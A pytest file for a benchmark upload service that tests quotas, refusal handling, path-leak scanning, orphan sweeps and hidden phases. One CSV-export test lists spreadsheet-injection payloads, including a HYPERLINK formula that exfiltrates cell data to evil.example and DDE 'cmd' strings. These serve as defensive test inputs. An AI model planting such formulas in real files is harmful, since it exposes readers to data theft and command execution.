"""Service hygiene (issue 24): uploads in flight count against the team's limits across
servers sharing a registry, refusals are read by the client (the body is drained first),
no host path reaches a page or an API answer, orphaned uploads are swept, and rejections
say the server's limits without CLI flags. Real `sgdask serve` processes on 127.0.0.1."""

from __future__ import annotations

import http.client
import json
import os
import socket
import time
import uuid
from pathlib import Path

import httpx
import pytest

from sgdask.batch.registry import Entry, Registry
from sgdask.cli import main
from sgdask.service.tokens import add_token
from tests.helpers import rewrite_zip
from tests.helpers.servicekit import (
    Proc,
    auth,
    entry_ids,
    history,
    stored_uploads,
    upload,
    wait_final,
    wait_for,
)

INTERNAL = "internal error while evaluating; the maintainers can see the log"


@pytest.fixture(scope="module")
def tokens(tmp_path_factory) -> tuple[Path, dict[str, str]]:
    path = tmp_path_factory.mktemp("hygiene-tokens") / "tokens.json"
    teams = {t: add_token(path, t, "participant") for t in ("team-a", "team-b", "team-c")}
    teams["lab"] = add_token(path, "lab", "maintainer")
    return path, teams


def serve(registry: Path, log: Path, tokens: Path, *extra: str) -> Proc:
    """`sgdask serve` on a free port without a worker (uploads only)."""
    return Proc(["serve", "--registry", str(registry), "--gt", str(registry.parent / "gt"),
                 "--out", str(registry.parent / "board"), "--tokens", str(tokens),
                 "--port", "0", "--no-worker", *extra], log)


class HeldUpload:
    """An upload that streams part of its file, then stalls with the connection open."""

    def __init__(self, base: str, token: str, name: str) -> None:
        host, port = base.removeprefix("http://").split(":")
        boundary = "h0ld"
        head = (f'--{boundary}\r\nContent-Disposition: form-data; name="name"\r\n\r\n'
                f'{name}\r\n--{boundary}\r\nContent-Disposition: form-data; name="file"; '
                'filename="held.zip"\r\nContent-Type: application/zip\r\n\r\n').encode()
        self.sock = socket.create_connection((host, int(port)), timeout=30)
        self.sock.sendall(f"POST /api/submissions HTTP/1.1\r\nHost: {host}:{port}\r\n"
                          f"Authorization: Bearer {token}\r\n"
                          f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
                          f"Content-Length: {len(head) + (4 << 20)}\r\n\r\n".encode()
                          + head + os.urandom(64 << 10))

    def close(self) -> None:
        self.sock.close()


def markers(registry: Path) -> list[dict]:
    """The in-flight markers now (one the server removes between listing and reading is
    gone, not an error)."""
    folder = registry / "uploads" / ".inflight"
    found = []
    for path in folder.glob("*.json") if folder.is_dir() else ():
        try:
            found.append(json.loads(path.read_text()))
        except FileNotFoundError:
            continue
    return found


def partials(registry: Path) -> list[Path]:
    folder = registry / "uploads" / ".partial"
    return list(folder.iterdir()) if folder.is_dir() else []


# --- uploads in flight count --------------------------------------------------------------

@pytest.mark.timeout(180)
def test_uploads_in_flight_count_across_servers_sharing_a_registry(tiny, tokens, tmp_path):
    """Two servers on one registry, --daily-limit 3 --concurrent-limit 2. A team with 2
    uploads left streams 2 into one server: its 3rd, sent to the other, is 429 at once. A
    team streaming 2 is at the concurrent cap. Stalled uploads that end free their slots."""
    registry = tmp_path / "registry"
    limits = ("--daily-limit", "3", "--concurrent-limit", "2")
    first = serve(registry, tmp_path / "one.log", tokens[0], *limits)
    second = serve(registry, tmp_path / "two.log", tokens[0], *limits)
    held: list[HeldUpload] = []
    try:
        one, two = first.url(), second.url()
        teams = tokens[1]
        assert upload(two, teams["team-b"], tiny.variant(0), "b first").status_code == 202
        held += [HeldUpload(one, teams["team-b"], f"b held {i}") for i in range(2)]
        wait_for(lambda: len(markers(registry)) == 2, 30, "two uploads in flight")
        assert {m["team"] for m in markers(registry)} == {"team-b"}
        start = time.monotonic()
        third = upload(two, teams["team-b"], tiny.variant(1), "b third")
        assert time.monotonic() - start < 5
        assert third.status_code == 429, third.text
        detail = third.json()["detail"]
        assert "3 submissions per 24 hours" in detail and "2 upload(s) in progress" in detail
        assert int(third.headers["retry-after"]) > 23 * 3600

        held += [HeldUpload(one, teams["team-a"], f"a held {i}") for i in range(2)]
        wait_for(lambda: len(markers(registry)) == 4, 30, "four uploads in flight")
        capped = upload(two, teams["team-a"], tiny.variant(2), "a third")
        assert capped.status_code == 429, capped.text
        assert "2 uploads are in progress, the limit of 2 at a time" in capped.json()["detail"]
        assert len(entry_ids(registry)) == 1 and len(stored_uploads(registry)) == 1

        for h in held:
            h.close()
        wait_for(lambda: not markers(registry) and not partials(registry), 30,
                 "the stalled uploads to be dropped")
        assert upload(two, teams["team-a"], tiny.variant(2), "a again").status_code == 202
        assert upload(one, teams["team-b"], tiny.variant(1), "b again").status_code == 202
        assert len(entry_ids(registry)) == 3
    finally:
        for h in held:
            h.close()
        first.stop()
        second.stop()


# --- refusals the client can read ----------------------------------------------------------

@pytest.fixture(scope="module")
def small_server(tokens, tmp_path_factory):
    """`sgdask serve --no-worker --max-upload-mb 24`."""
    root = tmp_path_factory.mktemp("hygiene-small")
    proc = serve(root / "registry", root / "serve.log", tokens[0], "--max-upload-mb", "24")
    try:
        yield proc.url(), root / "registry", tokens[1]
    finally:
        proc.stop()


def multipart(boundary: str, size: int) -> bytes:
    return (f'--{boundary}\r\nContent-Disposition: form-data; name="name"\r\n\r\nbig\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
            'filename="big.zip"\r\n\r\n').encode() + os.urandom(size) + \
        f"\r\n--{boundary}--\r\n".encode()


def post_raw(base: str, body: bytes, headers: dict[str, str]
             ) -> tuple[http.client.HTTPConnection, http.client.HTTPResponse, bytes]:
    """POST with the standard library (the whole body is sent before the answer is read)."""
    host, port = base.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=60)
    conn.request("POST", "/api/submissions", body=body, headers={
        "Content-Type": "multipart/form-data; boundary=bnd", **headers})
    response = conn.getresponse()
    return conn, response, response.read()


@pytest.mark.timeout(120)
def test_large_refused_uploads_read_401_and_413(small_server):
    base, registry, teams = small_server
    conn, response, body = post_raw(base, multipart("bnd", 20_000_000), {})
    assert response.status == 401, body
    assert json.loads(body)["detail"] == "token: missing (send Authorization: Bearer TOKEN)"
    conn.request("GET", "/healthz")              # the same connection: the body was drained
    assert conn.getresponse().read() == b"ok\n"
    conn.close()

    conn, response, body = post_raw(base, multipart("bnd", 26 << 20), auth(teams["team-a"]))
    assert response.status == 413 and b"upload limit of 24 MiB" in body
    conn.close()

    # a body too long to drain: answered at once, and the connection is closed
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(f"POST /api/submissions HTTP/1.1\r\nHost: {host}\r\n"
                     "Content-Type: multipart/form-data; boundary=bnd\r\n"
                     f"Content-Length: {100 << 20}\r\n\r\n".encode())
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    head = answer.split(b"\r\n\r\n", 1)[0].lower()
    assert head.startswith(b"http/1.1 413") and b"connection: close" in head
    assert entry_ids(registry) == set() and not partials(registry)


@pytest.mark.timeout(120)
def test_submit_checks_token_board_and_size_before_sending(small_server, tiny, tmp_path,
                                                          monkeypatch, capsys):
    base, registry, teams = small_server
    monkeypatch.delenv("SGDASK_TOKEN", raising=False)
    big = tmp_path / "big.zip"
    big.write_bytes(bytes(25 << 20))
    small = str(tiny.variant(0))

    def submit(path: str, *args: str) -> str:
        with pytest.raises(SystemExit) as exit_info:
            main(["submit", path, "--server", base, "--name", "m", *args])
        assert exit_info.value.code == 2
        return capsys.readouterr().err.strip()

    assert submit(small) == (f"sgdask: error: {base}: HTTP 401: token: missing (give --token "
                             "or set $SGDASK_TOKEN)")
    assert submit(small, "--token", "sgd_wrong") == \
        f"sgdask: error: {base}: HTTP 401: token: unknown or revoked token"
    assert "approved board takes uploads from maintainers only" in submit(
        small, "--token", teams["team-a"], "--approved")
    assert submit(str(big), "--token", teams["team-a"]) == (
        f"sgdask: error: {big}: {25 << 20} bytes, larger than the server's upload limit "
        "of 24 MiB")
    who = httpx.get(f"{base}/api/whoami", headers=auth(teams["team-a"]), timeout=30).json()
    assert who == {"team": "team-a", "role": "participant", "open_uploads": False,
                   "max_upload_bytes": 24 << 20,
                   "limits": {"daily": 5, "total": None, "concurrent": 5}}
    assert entry_ids(registry) == set() and not partials(registry)


# --- no host path in any answer -----------------------------------------------------------

@pytest.mark.slow
@pytest.mark.timeout(300)
def test_no_host_path_in_any_page_or_answer(tiny, tokens, client, tmp_path, tmp_path_factory):
    """A ranked, a rejected, a zip-bomb-rejected and a failed submission (the registry's
    stores/ replaced by a file: NotADirectoryError); no page or JSON answer holds the
    registry's path or the tests' tmp prefix; the failure's detail stays in the log."""
    registry, teams = tmp_path / "registry", tokens[1]
    proc = Proc(["serve", "--registry", str(registry), "--gt", tiny.gt, "--out",
                 str(tmp_path / "board"), "--tokens", str(tokens[0]), "--port", "0",
                 "--scheduler", client.scheduler.address, "--poll", "0.2", "--lease", "10",
                 "--max-attempts", "1"], tmp_path / "serve.log")
    try:
        base = proc.url()
        token = teams["team-c"]

        def sent(path: Path, name: str) -> str:
            answer = upload(base, token, path, name)
            assert answer.status_code == 202, answer.text
            return answer.json()["id"]

        ranked = sent(tiny.variant(40), "ranked model")
        broken = sent(tiny.broken(), "broken model")
        bomb = sent(rewrite_zip(tiny.paths.submission_zip, tmp_path / "bomb.zip",
                                replace={"padding.bin": bytes(4 << 20)}), "bomb model")
        assert wait_final(base, token, ranked, 150)["status"] == "ranked"
        assert wait_final(base, token, broken, 60)["errors"][0].startswith("error: broken.zip:")
        [bomb_error] = wait_final(base, token, bomb, 60)["errors"]
        assert "bomb.zip:padding.bin: expands" in bomb_error
        assert "the server's limit max_ratio; ask the maintainers to raise it" in bomb_error
        assert "--limit" not in bomb_error
        wait_for(lambda: (tmp_path / "board" / "leaderboard.json").exists(), 60,
                 "the board to be published")

        (registry / "stores").rename(tmp_path / "stores-moved")
        (registry / "stores").write_text("not a directory")
        failed = sent(tiny.variant(41), "failed model")
        doc = wait_final(base, token, failed, 90)
        assert doc["status"] == "failed" and doc["errors"] == [
            f"error: gave up after 1 attempt(s): {INTERNAL}"]
        assert "NotADirectoryError" in history(registry, failed)[-1]["errors"][0]
        assert "NotADirectoryError" in proc.text()              # the log keeps the detail

        answers = scanned_answers(base, token, [ranked, broken, bomb, failed])
        assert len(answers) >= 14
        for forbidden in (str(registry), str(tmp_path_factory.getbasetemp())):
            leaks = [where for where, text in answers.items() if forbidden in text]
            assert leaks == [], f"{forbidden} in {leaks}"
        assert "padding.bin" in answers[f"/submissions/{bomb}"]
    finally:
        proc.stop()


def scanned_answers(base: str, token: str, ids: list[str]) -> dict[str, str]:
    """Every page and JSON answer about ``ids``, as their team and as anyone."""
    paths = ["/", "/submit", "/login", "/mine", "/api/leaderboard", "/api/submissions",
             "/api/whoami", f"/reports/{ids[0]}"]
    for sid in ids:
        paths += [f"/submissions/{sid}", f"/api/submissions/{sid}"]
    answers = {}
    with httpx.Client(base_url=base, timeout=30, cookies={"sgdask_token": token}) as owner, \
            httpx.Client(base_url=base, timeout=30) as anyone:
        for path in paths:
            answer = owner.get(path, headers=auth(token) if path.startswith("/api/") else {})
            assert answer.status_code == 200, (path, answer.text)
            answers[path] = answer.text
            answers[f"{path} (anyone)"] = anyone.get(path).text
    return answers


# --- orphans ------------------------------------------------------------------------------

@pytest.mark.timeout(120)
def test_orphaned_uploads_are_swept_at_server_start(tokens, tmp_path):
    """Stale partial uploads, unregistered complete uploads, dead markers and the temporary
    store of a finished submission are deleted; fresh files, a registered upload, an old
    partial whose upload still beats and the temporary store of a submission still waiting
    to be converted stay."""
    registry = tmp_path / "registry"
    uploads = registry / "uploads"
    (uploads / ".partial").mkdir(parents=True)
    (uploads / ".inflight").mkdir()
    old = time.time() - 3600

    def file(path: Path, data: str = "x", mtime: float | None = None) -> Path:
        path.write_text(data)
        if mtime is not None:
            os.utime(path, (mtime, mtime))
        return path

    def marker(sid: str, at: str, mtime: float | None = None) -> Path:
        return file(uploads / ".inflight" / f"{sid}.json",
                    json.dumps({"submission_id": sid, "team": "team-a", "at": at}), mtime)

    ids = [f"20260101T00000{i}000000-00000000000{i}" for i in range(7)]

    def store_aside(sid: str, kind: str) -> Path:
        aside = registry / "stores" / f"{sid}.{kind}-{uuid.uuid4().hex}"
        (aside / "images").mkdir(parents=True)
        file(aside / "images" / "part-00000.parquet", mtime=old)
        os.utime(aside, (old, old))
        return aside

    stale = [file(uploads / ".partial" / f"{ids[0]}-0a1b2c3d", mtime=old),
             file(uploads / f"{ids[1]}.upload", mtime=old),
             marker(ids[2], "2026-01-01T00:00:00.000000Z", old),
             file(uploads / ".partial" / f"{ids[2]}-00ff00ff", mtime=old)]
    stale.append(store_aside(ids[6], "tmp"))  # its submission failed: no writer left
    now = time.strftime("%Y-%m-%dT%H:%M:%S.000000Z", time.gmtime())
    kept = [file(uploads / ".partial" / f"{ids[3]}-11223344"),          # fresh
            file(uploads / ".partial" / f"{ids[4]}-55667788", mtime=old),
            marker(ids[4], now),                                        # still beating
            file(uploads / f"{ids[5]}.upload", mtime=old),              # registered
            store_aside(ids[5], "trash")]                               # not converted yet
    Registry(str(registry)).add(Entry(ids[5], "m", "s", "u", "2026-01-01T00:00:00.000000Z",
                                      False, None, "received", "", "team-a", "m.zip"))
    Registry(str(registry)).add(Entry(ids[6], "m", "s", "u", "2026-01-01T00:00:00.000000Z",
                                      False, None, "failed", "", "team-a", "m.zip"))
    proc = serve(registry, tmp_path / "serve.log", tokens[0], "--lease", "60")
    try:
        proc.url()
        wait_for(lambda: not any(p.exists() for p in stale), 30, "the orphans to be swept")
        assert all(p.exists() for p in kept)
        wait_for(lambda: "swept 5 orphaned file(s)" in proc.text(), 10, "the log line")
    finally:
        proc.stop()


# --- issue 36: what participants see (warnings of a hidden GT, CSV cells, unlisted phases) ---

HIDDEN_PHASES = """
title: hidden phases
phases:
  - name: hidden
    gt: {gt}
    visibility: unlisted
  - name: secret
    gt: {gt}
    visibility: private
"""


def test_board_csv_cells_that_a_spreadsheet_would_run_are_quoted():
    """OWASP's CSV injection advice: text starting with = + - @ tab or CR behind a single
    quote; other text and numbers (a negative delta) as they are."""
    import csv
    import io

    from sgdask.batch.leaderboard_html import board_csv

    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
             "plain model", "a=b"]
    text = board_csv(["model", "R@50", "Δ multimpo"], [[n, 0.5, -0.25] for n in names])
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["model", "R@50", "Δ multimpo"]
    assert [r[0] for r in rows] == ["'" + n for n in names[:6]] + names[6:]
    assert all(r[1:] == ["0.5", "-0.25"] for r in rows)


@pytest.mark.slow
def test_unlisted_is_a_capability_url_and_private_warnings_say_counts(tiny, client, tokens,
                                                                      tmp_path):
    """An unlisted phase (docs/security.md: capability URLs): its board is refused to
    participants and anonymous readers, a team's listing holds only its own submissions,
    and a submission's status, rank and report are read by whoever holds its id (a wrong id
    is 404; a hidden submission is 404 to others). A private phase's validation warning
    counts the GT images without prediction and names none of them."""
    from sgdask.service.app import ServiceConfig
    from sgdask.service.benchmark import load_benchmark
    from sgdask.service.queue import submission
    from sgdask.service.worker import Worker, WorkerConfig
    from tests.helpers.servicekit import app_in_thread
    from tests.service.test_service_worker_hostile import queued

    path, teams = tokens
    benchmark = tmp_path / "challenge.yaml"
    benchmark.write_text(HIDDEN_PHASES.format(gt=tiny.gt))
    registry, out = str(tmp_path / "registry"), str(tmp_path / "board")
    service = ServiceConfig(registry, out, tokens=str(path),
                            benchmark=load_benchmark(str(benchmark), registry, out))
    hidden, secret = service.benchmark.phases

    def worker(phase) -> Worker:
        return Worker(WorkerConfig.beside(service, phase, 0.2, 1, None), client,
                      log=lambda _: None)

    missing: list[str] = []

    def dropped(doc):
        missing.extend(img["id"] for img in doc["images"][:3])
        del doc["images"][:3]
    partial = rewrite_zip(tiny.paths.submission_zip, tmp_path / "partial.zip", dropped)
    for phase in (secret, hidden):
        sid = queued(Registry(phase.registry), partial.read_bytes(), "partial.zip")
        worker(phase).prepare_batch()
        (warning,) = submission(Registry(phase.registry), sid).latest("warnings")
        assert "3 of 10 evaluated GT images have no prediction" in warning
        named = [i for i in missing if i in warning]
        assert named == ([] if phase is secret else missing), warning

    sid = queued(Registry(hidden.registry), tiny.variant(0).read_bytes(), "model.zip")
    hidden_worker = worker(hidden)
    for _ in range(4):
        hidden_worker.cycle()
        if submission(Registry(hidden.registry), sid).status == "ranked":
            break
    assert submission(Registry(hidden.registry), sid).status == "ranked"

    with app_in_thread(service) as base:
        get = lambda url, token=None: httpx.get(base + url, headers=auth(token),  # noqa: E731
                                                timeout=30)
        for token in (None, teams["team-a"], teams["team-b"]):
            assert get("/api/leaderboard?phase=hidden", token).status_code == 404
            assert get("/boards/hidden/public.csv", token).status_code == 404
        status = get(f"/api/submissions/{sid}")
        assert status.status_code == 200
        assert status.json()["rank"] == 1 and status.json()["metrics"]
        assert get(f"/reports/{sid}").status_code == 200
        wrong = sid[:-1] + ("0" if sid[-1] != "0" else "1")
        assert get(f"/api/submissions/{wrong}").status_code == 404
        assert get(f"/reports/{wrong}").status_code == 404
        listed = get("/api/submissions", teams["team-b"]).json()
        assert sid not in [s["id"] for s in listed]
        assert sid in [s["id"] for s in get("/api/submissions", teams["team-a"]).json()]
        hide = httpx.post(f"{base}/api/submissions/{sid}/visibility", json={"hidden": True},
                          headers=auth(teams["team-a"]), timeout=30)
        assert hide.status_code == 200
        assert get(f"/api/submissions/{sid}").status_code == 404
        assert get(f"/reports/{sid}", teams["team-b"]).status_code == 404
        assert get(f"/api/submissions/{sid}", teams["team-a"]).status_code == 200
